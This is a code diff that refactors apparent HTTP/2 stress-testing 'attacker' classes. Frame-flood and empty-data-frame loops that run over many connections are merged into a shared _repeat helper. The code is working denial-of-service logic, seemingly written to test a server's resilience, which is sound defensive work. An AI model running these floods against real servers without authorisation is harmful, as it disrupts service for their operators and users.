@@ -46,17 +46,7 @@ class FrameFlood(Attacker):
 
     async def attack(self, target: Target, tally: Tally) -> None:
         """Send the frame."""
-        pace, batch = Pace(_FRAMES_PER_SECOND), self._frame() * _BATCH
-
-        async def member(_: int) -> None:
-            async with raw_http2(target, tally) as writer:
-                while not writer.is_closing():
-                    await pace.wait(_BATCH)
-                    writer.write(batch)
-                    await writer.drain()
-                    tally["frames"] += _BATCH
-
-        await crowd(_CONNECTIONS, member, tally)
+        await _repeat(self._frame(), target, tally)
 
 
 class ContinuationFlood(Attacker):
@@ -189,19 +179,8 @@ class EmptyData(Attacker):
 
     async def attack(self, target: Target, tally: Tally) -> None:
         """Open one call on each connection and send empty frames."""
-        pace, block = Pace(_FRAMES_PER_SECOND), header_block(request_headers(RECOGNITION + "Identify", target.token))
-        start, batch = headers_frame(1, block), data_frame(1, b"") * _BATCH
-
-        async def member(_: int) -> None:
-            async with raw_http2(target, tally) as writer:
-                writer.write(start)
-                while not writer.is_closing():
-                    await pace.wait(_BATCH)
-                    writer.write(batch)
-                    await writer.drain()
-                    tally["frames"] += _BATCH
-
-        await crowd(_CONNECTIONS, member, tally)
+        block = header_block(request_headers(RECOGNITION + "Identify", target.token))
+        await _repeat(data_frame(1, b""), target, tally, start=headers_frame(1, block))
 
 
 class SlowHeaders(Attacker):
@@ -243,3 +222,19 @@ ATTACKERS = (
     UnknownMethods,
     SlowHeaders,
 )
+
+
+async def _repeat(frame: bytes, target: Target, tally: Tally, *, start: bytes = b"") -> None:
+    """Send a frame again and again on many connections, each after ``start``."""
+    pace, batch = Pace(_FRAMES_PER_SECOND), frame * _BATCH
+
+    async def member(_: int) -> None:
+        async with raw_http2(target, tally) as writer:
+            writer.write(start)
+            while not writer.is_closing():
+                await pace.wait(_BATCH)
+                writer.write(batch)
+                await writer.drain()
+                tally["frames"] += _BATCH
+
+    await crowd(_CONNECTIONS, member, tally)
